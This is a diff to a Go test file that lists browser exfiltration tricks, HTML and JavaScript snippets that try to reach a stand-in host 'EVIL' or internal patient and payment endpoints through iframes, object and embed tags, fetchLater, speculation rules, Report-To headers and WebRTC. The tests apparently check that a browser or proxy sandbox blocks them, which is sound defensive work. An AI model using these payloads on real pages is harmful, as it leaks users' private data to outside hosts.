@@ -74,7 +74,7 @@ var tricks = []trick{
 	{name: "iframe-srcdoc", page: `<iframe srcdoc="<script>fetch('EVIL/x', {method: 'POST', mode: 'no-cors'})</script>"></iframe>`, wall: InBrowser, reason: otherHost},
 	{name: "iframe-sandboxed", page: `<iframe sandbox=allow-scripts srcdoc="<img src=EVIL/x>"></iframe>`, wall: InBrowser, reason: otherHost},
 	{name: "iframe-data", page: `<iframe src="data:text/html,<img src=EVIL/x>"></iframe>`, wall: InBrowser, reason: otherHost},
-	{name: "object", page: `<object data=EVIL/x></object>`, uncontrolled: "our own policy takes objects away before they ask"},
+	{name: "object", page: `<object data=EVIL/x></object>`, wall: InBrowser, reason: otherHost},
 	{name: "redirect", page: `<script>fetch('/redirect?to=EVIL/x')</script>`, wall: InBrowser, reason: otherHost},
 	{name: "redirect-portal", page: `<img src="/redirect?to=PORTAL/api/patients/1/photo">`, wall: InBrowser, reason: noRule},
 	{name: "redirect-post", page: `<script>fetch('/api/exports?to=EVIL/x', {method: 'POST', mode: 'no-cors'})</script>`, wall: InBrowser, reason: otherHost},
@@ -112,15 +112,15 @@ var tricks = []trick{
 	{name: "ping-portal", page: `<a href=#there ping=/api/payments>x</a><script>document.querySelector('a').click()</script>`, wall: InBrowser, write: true, reason: noRule},
 	{name: "srcset", page: `<img srcset="EVIL/x.png 1x"><picture><source srcset=EVIL/y.png><img src=data:,></picture>`, wall: InBrowser, reason: otherHost},
 	{name: "track", page: `<video src=/api/account><track default kind=captions src=/patients/1></video><script>document.querySelector('track').track.mode = 'showing'</script>`, wall: InBrowser, reason: noRule},
-	{name: "embed", page: `<embed src=EVIL/x type=text/html>`, uncontrolled: "our own policy takes objects away before they ask"},
+	{name: "embed", page: `<embed src=EVIL/x type=text/html>`, wall: InBrowser, reason: otherHost},
 	{name: "javascript-frame", page: `<iframe src="javascript:fetch('EVIL/x', {method: 'POST', mode: 'no-cors'})"></iframe>`, wall: InBrowser, reason: otherHost},
-	{name: "blob-document", page: `<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<img src='EVIL/x'>"], {type: 'text/html'})); document.body.append(f)</script>`},
+	{name: "blob-document", page: `<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<img src='EVIL/blob'>"], {type: 'text/html'})); document.body.append(f)</script>`},
 	{name: "import-map", page: `<script type=importmap>{"imports": {"x": "EVIL/x.js"}}</script><script type=module>import 'x'</script>`, wall: InBrowser, reason: otherHost},
 	{name: "redirect-post-portal", page: `<script>fetch('/api/exports?to=PORTAL/api/payments', {method: 'POST'})</script>`, wall: InBrowser, write: true, reason: noRule},
 	{name: "service-worker-portal", page: `<script>navigator.serviceWorker.register('/assets/service.js?to=PORTAL/api/payments')</script>`, wall: InBrowser, write: true, reason: noRule},
 	{name: "shared-worker-portal", page: `<script>new SharedWorker('/assets/shared.js').port.postMessage('PORTAL/api/payments')</script>`, wall: InBrowser, write: true, reason: noRule},
 	{name: "unload-keepalive-portal", page: `<script>addEventListener('pagehide', () => fetch('/api/payments', {method: 'POST', keepalive: true}))</script>`, wall: InBrowser, write: true, reason: noRule},
-	{name: "unload-fetch-later", page: `<script>fetchLater('/api/telemetry', {method: 'POST', body: 'canary'})</script>`, uncontrolled: "a script may ask for it, but it is sent only where a page is left in a way that the test server does not see"},
+	{name: "unload-fetch-later", page: `<script>fetchLater('EVIL/x', {method: 'POST', body: 'canary'})</script>`, wall: InBrowser, reason: otherHost},
 	{name: "unload-xhr", page: `<script>addEventListener('pagehide', () => { const x = new XMLHttpRequest(); x.open('POST', 'EVIL/x', false); x.send('canary') })</script>`, uncontrolled: "Chromium allows no such call at that moment"},
 	{name: "speculation-evil", page: `<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["EVIL/x"], "eagerness": "immediate"}]}</script>`, wall: InProxy, reason: otherHost},
 	{name: "speculation-document", page: `<a href=/patients/3>x</a><script type=speculationrules>{"prefetch": [{"source": "document", "where": {"href_matches": "/*"}, "eagerness": "immediate"}]}</script>`, wall: InProxy, reason: noRule},
@@ -131,8 +131,8 @@ var tricks = []trick{
 	{name: "attribution", page: `<img src=data:, attributionsrc="EVIL/x">`, uncontrolled: "Chromium has given it up"},
 	{name: "identity", page: `<script>navigator.credentials.get({identity: {providers: [{configURL: 'EVIL/x.json', clientId: 'canary'}]}})</script>`, wall: InProxy, reason: otherHost},
 	{name: "payment", page: `<script>new PaymentRequest([{supportedMethods: 'EVIL/x'}], {total: {label: 'x', amount: {currency: 'CAD', value: '1'}}}).canMakePayment()</script>`, uncontrolled: "needs a window"},
-	{name: "dictionary", page: `<link rel=compression-dictionary href=EVIL/x>`, uncontrolled: "loaded when the browser is idle"},
-	{name: "error-logging", page: `<img src=/api/patients/1/photo>`, header: http.Header{"Report-To": {`{"group": "default", "max_age": 9999, "endpoints": [{"url": "EVIL/x"}]}`}, "Nel": {`{"report_to": "default", "max_age": 9999, "success_fraction": 1, "failure_fraction": 1}`}}, uncontrolled: "needs a certificate that an authority vouches for"},
+	{name: "dictionary", page: `<link rel=compression-dictionary href=EVIL/x>`, wall: InBrowser, reason: otherHost},
+	{name: "error-logging", page: `<img src=/api/account>`, header: http.Header{"Report-To": {`{"group": "default", "max_age": 9999, "endpoints": [{"url": "EVIL/x"}]}`}, "Nel": {`{"report_to": "default", "max_age": 9999, "success_fraction": 1, "failure_fraction": 1}`}}, uncontrolled: "needs a certificate that an authority vouches for"},
 	{name: "alternative-service", page: `<img src=/api/account>`, header: http.Header{"Alt-Svc": {`h3="UDP"; ma=9999`}, "Strict-Transport-Security": {"max-age=9999"}}, uncontrolled: "needs a certificate that an authority vouches for"},
 	{name: "webrtc-turn", page: `<script>const c = new RTCPeerConnection({iceServers: [{urls: 'turn:UDP?transport=udp', username: 'canary', credential: 'x'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))</script>`},
 	{name: "websocket-shared-worker", page: `<script>new SharedWorker(URL.createObjectURL(new Blob(["new WebSocket('PORTAL/cable'.replace('http', 'ws'))"])))</script>`, wall: InProxy, reason: tunnel},
@@ -417,7 +417,7 @@ func countOf(entries []Entry, like Entry) int {
 func play(t *testing.T, life context.Context, b *rod.Browser, portal string, trick trick, done func() bool) {
 	t.Helper()
 	name := trick.name
-	ctx, cancel := context.WithTimeout(life, 30*time.Second)
+	ctx, cancel := context.WithTimeout(life, time.Minute)
 	defer cancel()
 	page, err := b.Context(ctx).Page(proto.TargetCreateTarget{})
 	if err != nil {
